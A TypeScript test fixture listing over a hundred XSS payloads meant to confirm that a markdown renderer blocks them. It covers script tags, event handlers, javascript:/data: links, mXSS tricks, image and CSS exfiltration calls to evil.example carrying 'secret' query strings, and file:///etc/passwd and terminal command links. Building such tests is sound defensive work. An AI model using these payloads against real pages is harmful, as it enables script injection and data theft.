// Hostile model output for the markdown renderer: each payload tries to run script (calling `__pwned()` or
// `alert`), to navigate, or to make the page send a request. None of it may work.

export interface XssPayload {
  name: string;
  markdown: string;
}

const HUGE = 'A'.repeat(100_000);

export const XSS_PAYLOADS: XssPayload[] = [
  // Script tags
  { name: 'script tag', markdown: '<script>__pwned()</script>' },
  { name: 'script tag with src', markdown: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { name: 'split script tag', markdown: '<scr<script>ipt>__pwned()</scr</script>ipt>' },
  { name: 'script in a paragraph', markdown: 'Hello <script>alert(1)</script> world' },
  { name: 'script as an html block', markdown: '<div>\n<script>__pwned()</script>\n</div>\n\nafter' },
  { name: 'script after a list', markdown: '- item\n\n<script>__pwned()</script>' },

  // Event handlers in many tags
  { name: 'img onerror', markdown: '<img src=x onerror=__pwned()>' },
  { name: 'img onerror, quoted', markdown: '<img src="x" onerror="__pwned()">' },
  { name: 'svg onload', markdown: '<svg onload=__pwned()>' },
  { name: 'body onload', markdown: '<body onload=__pwned()>' },
  { name: 'div onmouseover', markdown: '<div onmouseover="__pwned()">hover me</div>' },
  { name: 'a onclick', markdown: '<a onclick="__pwned()">click me</a>' },
  { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=__pwned()>' },
  { name: 'select autofocus onfocus', markdown: '<select autofocus onfocus=__pwned()></select>' },
  { name: 'textarea autofocus onfocus', markdown: '<textarea autofocus onfocus=__pwned()></textarea>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=__pwned()><summary>x</summary></details>' },
  { name: 'video source onerror', markdown: '<video><source onerror="__pwned()"></video>' },
  { name: 'audio onerror', markdown: '<audio src=x onerror=__pwned()>' },
  { name: 'marquee onstart', markdown: '<marquee onstart=__pwned()>x</marquee>' },
  { name: 'custom element onclick', markdown: '<x-foo onclick=__pwned()>click</x-foo>' },
  { name: 'handler with no quotes and slashes', markdown: '<img/src/onerror=__pwned()>' },
  { name: 'handler in a table cell', markdown: '| a |\n|---|\n| <img src=x onerror=__pwned()> |' },
  { name: 'handler in a blockquote', markdown: '> <img src=x onerror=__pwned()>' },

  // javascript:, data:, vbscript: links
  { name: 'javascript link', markdown: '[click](javascript:__pwned())' },
  { name: 'javascript link, mixed case', markdown: '[click](JaVaScRiPt:__pwned())' },
  { name: 'javascript link, decimal entity', markdown: '[click](&#106;avascript:__pwned())' },
  { name: 'javascript link, hex entity', markdown: '[click](&#x6A;&#x61;vascript:__pwned())' },
  { name: 'javascript link, &colon;', markdown: '[click](javascript&colon;__pwned())' },
  { name: 'javascript link, tab entity inside', markdown: '[click](jav&#x09;ascript:__pwned())' },
  { name: 'javascript link, percent-encoded', markdown: '[click](%6Aavascript:__pwned())' },
  { name: 'javascript link in angle brackets', markdown: '[click](<javascript:__pwned()>)' },
  { name: 'javascript link, leading space and control', markdown: '[click](<\u0001 javascript:__pwned()>)' },
  { name: 'javascript link with a title', markdown: '[click](javascript:__pwned() "title")' },
  { name: 'data html link', markdown: '[click](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=)' },
  { name: 'data html link, upper case', markdown: '[click](DATA:text/html,<script>__pwned()</script>)' },
  { name: 'data image link', markdown: '[click](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'vbscript link', markdown: '[click](vbscript:msgbox(1))' },
  { name: 'vbscript link, mixed case', markdown: '[click](VbScRiPt:msgbox(1))' },
  { name: 'file link', markdown: '[passwd](file:///etc/passwd)' },
  { name: 'command link', markdown: '[settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)' },
  { name: 'vscode link', markdown: '[clone](vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Frepo)' },
  { name: 'vscode-webview link', markdown: '[x](vscode-webview://abc/index.html)' },
  { name: 'relative link', markdown: '[x](/etc/passwd) [y](../secrets) [z](#top)' },
  { name: 'protocol-relative link', markdown: '[x](//evil.example/path)' },

  // Autolinks and linkify
  { name: 'javascript autolink', markdown: '<javascript:__pwned()>' },
  { name: 'javascript autolink, upper case', markdown: '<JAVASCRIPT:__pwned()>' },
  { name: 'data autolink', markdown: '<data:text/html,<script>__pwned()</script>>' },
  { name: 'vbscript autolink', markdown: '<vbscript:msgbox(1)>' },
  { name: 'bare javascript URL', markdown: 'go to javascript:__pwned() now' },
  { name: 'linkified URL with markup', markdown: 'see https://evil.example/"><script>__pwned()</script> now' },
  { name: 'mailto autolink with markup', markdown: '<mailto:x@evil.example?body=<img src=x onerror=__pwned()>>' },

  // Reference-style links
  { name: 'javascript reference link', markdown: '[click][evil]\n\n[evil]: javascript:__pwned()' },
  { name: 'javascript reference link, angle brackets and title', markdown: '[click][evil]\n\n[evil]: <javascript:__pwned()> "t"' },
  { name: 'javascript shortcut reference, defined first', markdown: '[evil]: JAVASCRIPT:__pwned()\n\nsee [evil]' },
  { name: 'reference image to an exfiltration URL', markdown: '![logo][img]\n\n[img]: https://evil.example/ref.png?q=secret' },

  // SVG and MathML
  { name: 'svg script', markdown: '<svg><script>__pwned()</script></svg>' },
  { name: 'svg animate onbegin', markdown: '<svg><animate onbegin=__pwned() attributeName=x dur=1s></animate></svg>' },
  { name: 'svg xlink javascript', markdown: '<svg><a xlink:href="javascript:__pwned()"><text x="20" y="20">x</text></a></svg>' },
  { name: 'svg foreignObject', markdown: '<svg><foreignObject><img src=x onerror=__pwned()></foreignObject></svg>' },
  { name: 'math mglyph style mXSS', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()></style></mglyph></table></mtext></math>' },
  { name: 'math href', markdown: '<math href="javascript:__pwned()">click</math>' },

  // Frames and plugins
  { name: 'iframe javascript src', markdown: '<iframe src="javascript:__pwned()"></iframe>' },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>' },
  { name: 'iframe remote', markdown: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'object data', markdown: '<object data="javascript:__pwned()"></object>' },
  { name: 'embed src', markdown: '<embed src="javascript:__pwned()">' },

  // Styles
  { name: 'style @import', markdown: '<style>@import url(https://evil.example/x.css);</style>' },
  { name: 'style background url', markdown: '<style>body { background: url("https://evil.example/?leak=1") }</style>' },
  { name: 'style attribute url', markdown: '<div style="background:url(https://evil.example/bg.png)">x</div>' },
  { name: 'link stylesheet', markdown: '<link rel=stylesheet href=https://evil.example/x.css>' },
  { name: 'css expression', markdown: '<p style="width: expression(__pwned())">x</p>' },

  // Document-level tags
  { name: 'meta refresh to javascript', markdown: '<meta http-equiv="refresh" content="0;url=javascript:__pwned()">' },
  { name: 'meta refresh away', markdown: '<meta http-equiv=refresh content="0;url=https://evil.example/">' },
  { name: 'base href', markdown: '<base href="https://evil.example/">\n\n[rel](x) ![img](y.png)' },

  // Forms
  { name: 'form javascript action', markdown: '<form action="javascript:__pwned()"><button>go</button></form>' },
  { name: 'button formaction', markdown: '<form><button formaction=javascript:__pwned()>x</button></form>' },
  { name: 'input type image', markdown: '<input type=image src=https://evil.example/i.png>' },
  { name: 'isindex', markdown: '<isindex action=javascript:__pwned() type=image>' },

  // Markdown images (exfiltration)
  { name: 'image exfiltration', markdown: '![x](https://evil.example/?q=secret)' },
  { name: 'image with title', markdown: '![x](https://evil.example/a.png "title")' },
  { name: 'protocol-relative image', markdown: '![x](//evil.example/p.png)' },
  { name: 'image inside a link', markdown: '[![x](https://evil.example/nested.png)](https://evil.example/link)' },
  { name: 'svg data image with onload', markdown: '![x](data:image/svg+xml,<svg onload=__pwned()>)' },
  { name: 'javascript image', markdown: '![x](javascript:__pwned())' },
  { name: 'image in a table', markdown: '| a |\n|---|\n| ![x](https://evil.example/t.png) |' },
  { name: 'many images', markdown: Array.from({ length: 20 }, (_, i) => `![i${i}](https://evil.example/${i}.png)`).join(' ') },

  // HTML inside code
  { name: 'html in a fence', markdown: '```html\n<script>__pwned()</script>\n<img src=x onerror=__pwned()>\n```' },
  { name: 'svg in an xml fence', markdown: '```xml\n<svg onload="__pwned()"/>\n```' },
  { name: 'html in inline code', markdown: '`<img src=x onerror=__pwned()>`' },
  { name: 'markup in a fence language', markdown: '```"><img src=x onerror=__pwned()>\ncode\n```' },
  { name: 'javascript fence language', markdown: '```javascript:__pwned()\nx\n```' },
  { name: 'unclosed fence with html', markdown: '```\n<script>__pwned()</script>' },
  { name: 'html in an unknown language fence', markdown: '```foolang\n<iframe src=javascript:__pwned()></iframe>\n```' },

  // Link titles with quotes
  { name: 'title breaking out with double quote', markdown: '[x](https://ok.example "a\\" onmouseover=\\"__pwned()")' },
  { name: 'title breaking out with single quote', markdown: "[x](https://ok.example 'a\\' onclick=__pwned() x=')" },
  { name: 'title in parentheses with quotes', markdown: '[x](https://ok.example (a" onerror="__pwned()))' },
  { name: 'alt text breaking out', markdown: '![a" onerror="__pwned()](https://evil.example/i.png)' },

  // Unicode and zero-width tricks
  { name: 'zero-width space in scheme', markdown: '[x](java\u200bscript:__pwned())' },
  { name: 'NUL before scheme', markdown: '[x](\u0000javascript:__pwned())' },
  { name: 'fullwidth scheme', markdown: '[x](ｊａｖａｓｃｒｉｐｔ:__pwned())' },
  { name: 'right-to-left override', markdown: '[\u202egpj.exe](https://evil.example/\u202egpj.exe)' },
  { name: 'zero-width in tag', markdown: '<scr\u200bipt>__pwned()</scr\u200bipt>' },
  { name: 'line separator in scheme', markdown: '[x](java\u2028script:__pwned())' },

  // Nested backticks
  { name: 'four backticks around a fence with script', markdown: '````\n```\n<script>__pwned()</script>\n```\n````' },
  { name: 'double-backtick code span', markdown: '``<img src=x onerror=__pwned()>``' },
  { name: 'unbalanced backticks', markdown: '` `` <script>__pwned()</script> `` `' },

  // Entities, comments and parser confusion
  { name: 'entity-encoded tags', markdown: '&lt;script&gt;__pwned()&lt;/script&gt; &#60;img src=x onerror=__pwned()&#62;' },
  { name: 'html comment breakout', markdown: '<!--><img src=x onerror=__pwned()>-->' },
  { name: 'cdata', markdown: '<![CDATA[<script>__pwned()</script>]]>' },
  { name: 'noscript mXSS', markdown: '<noscript><p title="</noscript><img src=x onerror=__pwned()>">' },
  { name: 'template', markdown: '<template><script>__pwned()</script></template>' },
  { name: 'svg style mXSS', markdown: '<svg></p><style><a id="</style><img src=1 onerror=__pwned()>">' },
  { name: 'raw anchor', markdown: '<a href="javascript:__pwned()">raw</a> <a href=https://evil.example target=_blank>x</a>' },
  { name: 'forged placeholders', markdown: '<span data-image="0"></span><a data-link="0">x</a><div class="md-code" data-code="0">y</div>' },
  { name: 'attribute syntax', markdown: '[x](https://ok.example){onclick=__pwned()}' },

  // Sizes
  { name: 'huge attribute', markdown: `<div title="${HUGE}" onclick=__pwned()>x</div>` },
  { name: 'huge URL', markdown: `[x](https://ok.example/${'a'.repeat(50_000)})` },
  { name: 'huge alt text', markdown: `![${'x'.repeat(20_000)}](https://evil.example/huge.png)` },
  { name: 'deep nesting', markdown: `${'> '.repeat(200)}<img src=x onerror=__pwned()>` },
];
